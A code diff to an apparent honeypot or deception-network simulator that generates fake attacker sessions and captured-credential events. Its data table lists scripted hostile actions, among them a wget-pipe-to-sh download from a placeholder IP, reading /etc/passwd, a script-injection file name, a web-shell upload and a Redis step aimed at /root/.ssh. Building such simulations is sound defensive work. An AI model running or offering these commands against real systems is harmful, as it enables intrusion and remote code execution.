@@ -316,10 +316,10 @@ function apply(state, topology, op, payload, mutationId) {
 // Visitors.
 
 const DEEDS = {
-  ssh: [["login", "root / ••••••"], ["login", "admin / ••••••"], ["command", "uname -a"], ["command", "cat /etc/passwd"],
+  ssh: [["login", "login root with password ******: refused"], ["login", "login admin with password ******: accepted"], ["command", "uname -a"], ["command", "cat /etc/passwd"],
     ["command", "wget http://198.51.100.9/x.sh -O- | sh"], ["command", "echo '<script>alert(1)</script>' > /tmp/\\x1b[31mred"]],
-  http: [["request", "GET / HTTP/1.1"], ["request", "GET /wp-login.php HTTP/1.1"], ["login", "admin / ••••••"]],
-  ftp: [["login", "anonymous / ••••••"], ["command", "LIST"], ["upload", "shell.php (2.1 KiB)"]],
+  http: [["request", "GET / HTTP/1.1"], ["request", "GET /wp-login.php HTTP/1.1"], ["login", "login admin with password ******: accepted"]],
+  ftp: [["login", "login anonymous with password ******: accepted"], ["command", "LIST"], ["upload", "upload shell.php, 2150 bytes, sha256 9f86d081884c7d65"]],
   redis: [["command", "INFO"], ["command", "CONFIG SET dir /root/.ssh"], ["command", "KEYS *"]],
 };
 
@@ -352,7 +352,7 @@ function visit(state, query) {
     publish(state, "attacker.session.activity", "attacker.session.activity", { ...ids, index: index + 1, kind, text });
     publish(state, `decky.${decky.decky_id}.traffic`, "decky.traffic", { ...ids, service: chosen, peer: session.peer, kind, summary: text }, false);
     if (kind === "login") {
-      const principal = text.split(" ")[0];
+      const principal = text.split(" ")[1];
       const known = state.credentials.get(principal) ?? { credential_id: newId(), kind: "password", principal, secret: "hunter2", hash: "00", first_seen: now(), tries: 0 };
       state.credentials.set(principal, { ...known, last_seen: now(), tries: known.tries + 1 });
       publish(state, "credential.captured", "credential.captured", { ...ids, credential_id: known.credential_id, kind: "password", hash: "00", principal });
